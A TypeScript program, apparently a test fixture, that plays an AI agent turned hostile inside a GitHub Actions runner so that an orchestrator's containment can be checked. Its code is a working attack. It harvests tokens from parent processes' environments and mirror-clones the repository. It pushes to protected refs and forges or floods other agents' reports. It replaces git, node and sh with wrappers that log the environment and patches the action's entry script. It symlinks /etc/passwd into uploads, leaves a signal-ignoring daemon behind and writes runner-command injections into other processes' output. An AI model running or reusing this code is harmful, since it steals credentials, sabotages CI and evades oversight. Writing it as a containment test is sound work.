/**
 * An agent that turned hostile, as a program: it takes what it can reach, tries to harm everybody else with it, writes down in a folder what came of
 * that, and then does its work, so that nothing seems wrong. Run as `hostile-leg.js <folder>`.
 */
import { spawn } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  accessOf,
  flood,
  forge,
  invent,
  overstep,
  reportsOfOthers,
  type StolenAccess,
} from './hostile-forgery.js';
import {
  type Ancestor,
  ancestors,
  callEverything,
  everyFile,
  gitWith,
  pushEverywhere,
  type Tried,
} from './hostile-reach.js';

/** What the test reads afterwards, beside `everything.txt`. */
export interface Loot {
  readonly environment: readonly string[];
  /** Names of variables of the processes above. */
  readonly above: readonly string[];
  readonly token: string;
  readonly othersRead: readonly string[];
  readonly tried: readonly Tried[];
  readonly daemon: number;
}

const JUNK = 500;

async function main(folder: string): Promise<void> {
  mkdirSync(folder, { recursive: true });
  const above = ancestors();
  const step = above.find(({ environ }) => environ['ACTIONS_RUNTIME_TOKEN'] !== undefined);
  if (step === undefined) throw new Error('found no step of an action above');
  const { environ } = step;
  const token = environ['INPUT_GITHUB-TOKEN'] ?? '';
  const server = `${environ['GITHUB_SERVER_URL']}/${environ['GITHUB_REPOSITORY']}.git`;
  const reach = [environ['RUNNER_TEMP'], environ['GITHUB_WORKSPACE'], environ['HOME'], process.cwd()];
  const history = readRepository(token, server, folder);
  const places = everyFile(reach.flatMap((one) => one ?? []));
  writeFileSync(
    join(folder, 'everything.txt'),
    [JSON.stringify(above), places, history].join('\n'),
    'latin1',
  );
  const access = accessOf(environ, join(folder, 'scratch'));
  const { tried, othersRead } = await harmOthers(access, token, server);
  poison(step, folder);
  const loot: Loot = {
    environment: Object.keys(process.env),
    above: [...new Set(above.flatMap((one) => Object.keys(one.environ)))],
    token,
    othersRead,
    tried,
    daemon: leaveDaemon(),
  };
  writeFileSync(join(folder, 'loot.json'), JSON.stringify(loot));
  shout(above);
}

/** Everything that the read token shows of the repository. */
function readRepository(token: string, server: string, folder: string): string {
  const copy = join(folder, 'copy.git');
  gitWith(token, 'clone', '--quiet', '--mirror', server, copy);
  const objects = gitWith(token, '-C', copy, 'cat-file', '--batch', '--batch-all-objects', '--unordered').out;
  return objects;
}

async function harmOthers(
  access: StolenAccess,
  token: string,
  server: string,
): Promise<{ readonly tried: readonly Tried[]; readonly othersRead: readonly string[] }> {
  const { env } = access;
  const session = process.env['ORCHESTRATOR_SESSION'] ?? '';
  const tried: Tried[] = [];
  const refs = ['main', 'orchestrator-state', `orchestrator/${session}`].map((name) => `refs/heads/${name}`);
  tried.push(...pushEverywhere(token, server, refs));
  tried.push(...(await callEverything(token, env['GITHUB_API_URL'] ?? '', env['GITHUB_REPOSITORY'] ?? '')));
  const others = await reportsOfOthers(access);
  const [first, second] = others;
  if (first === undefined || second === undefined) throw new Error('there is nobody to harm');
  tried.push(...(await overstep(access, second.artifact)));
  tried.push(await flood(access, session, JUNK));
  // Last, so that they are the newest of this job and looked at first.
  tried.push(await invent(access, first.report, '01-write/z'), await invent(access, first.report, '../../x'));
  tried.push(await forge(access, first, 'instead'), await forge(access, second, 'beside'));
  return { tried, othersRead: others.map(({ report }) => report.task_id) };
}

/** Everything that a later step, or the end of this one, might run or read. */
function poison({ environ, cmdline }: Ancestor, folder: string): void {
  const tools = join(folder, 'tools');
  mkdirSync(tools);
  const note = `{ printf '%s %s %s\\n' "$0" "$GITHUB_JOB" "$RUNNER_TRACKING_ID"; env; } >> ${join(folder, 'ran.txt')}`;
  for (const name of ['git', 'node', 'sh', 'bash', 'env', 'tar', 'unzip']) {
    writeFileSync(join(tools, name), `#!/bin/sh\n${note}\nexec /usr/bin/${name} "$@"\n`);
    chmodSync(join(tools, name), 0o755);
  }
  writeFileSync(join(folder, 'startup.sh'), `${note}\n`);
  const says = (file: string, text: string): void => appendFileSync(environ[file] ?? '', text);
  says('GITHUB_PATH', `${tools}\n`);
  says(
    'GITHUB_ENV',
    `BASH_ENV=${join(folder, 'startup.sh')}\nENV=${join(folder, 'startup.sh')}\nGIT_SSH_COMMAND=x\n`,
  );
  says('GITHUB_OUTPUT', 'conclusion=completed\nmatrix={"include":[]}\nsession=deadbeef\n');
  says('GITHUB_STATE', 'session=deadbeef\n');
  says('GITHUB_STEP_SUMMARY', '@everybody <script>alert(1)</script>\n');
  const program = cmdline.find((word) => word.endsWith('index.js')) ?? '';
  const mark = `(await import('node:fs')).appendFileSync(${JSON.stringify(join(folder, 'action-ran.txt'))}, JSON.stringify(process.env) + '\\n');\n`;
  // After the first line, which names the interpreter.
  writeFileSync(
    program,
    readFileSync(program, 'utf8').replace('\n', () => `\n${mark}`),
  );
  markUploads(environ, folder);
}

/** Asks the end of the step to upload other things than reports. */
function markUploads(environ: Readonly<Record<string, string>>, folder: string): void {
  const session = process.env['ORCHESTRATOR_SESSION'] ?? '';
  const marks = join(environ['RUNNER_TEMP'] ?? '', 'orchestrator-uploads');
  const secrets = join(folder, 'marked', `orchestrator-${session}-${'a'.repeat(16)}-r1`);
  mkdirSync(secrets, { recursive: true });
  writeFileSync(join(secrets, 'report.json'), '{}');
  symlinkSync('/etc/passwd', join(secrets, 'passwd'));
  symlinkSync('/etc', join(secrets, 'etc'));
  const linked = join(folder, 'marked', `orchestrator-${session}-${'b'.repeat(16)}-r1`);
  symlinkSync(secrets, linked);
  writeFileSync(join(marks, `orchestrator-${session}-${'a'.repeat(16)}-r1`), secrets);
  writeFileSync(join(marks, `orchestrator-${session}-${'b'.repeat(16)}-r1`), linked);
  symlinkSync('/etc/passwd', join(marks, 'passwd'));
  writeFileSync(join(marks, 'etc'), '/etc');
}

function leaveDaemon(): number {
  const daemon = spawn('sh', ['-c', 'trap "" TERM INT HUP; sleep 90 & wait; sleep 90'], {
    detached: true,
    stdio: 'ignore',
  });
  daemon.unref();
  return daemon.pid ?? 0;
}

/** Words that a runner would obey, in the agent's own output and straight into that of the step. */
function shout(above: readonly Ancestor[]): void {
  const words = [
    '::error::pwned',
    '::add-mask::success',
    '::set-output name=conclusion::completed',
    '::stop-commands::mine',
    '::mine::',
    '##[error]pwned',
    '\u001b]0;pwned\u0007\u001b[2J',
    'x\r::error::pwned',
    '\u2028::error::pwned',
  ].join('\n');
  process.stdout.write(`${words}\n`);
  process.stderr.write(`${words}\n`);
  for (const { pid } of above)
    try {
      appendFileSync(`/proc/${pid}/fd/1`, `${words}\n`);
    } catch {
      // A pipe of somebody else, or a socket: then not.
    }
}

await main(process.argv[2] ?? '');
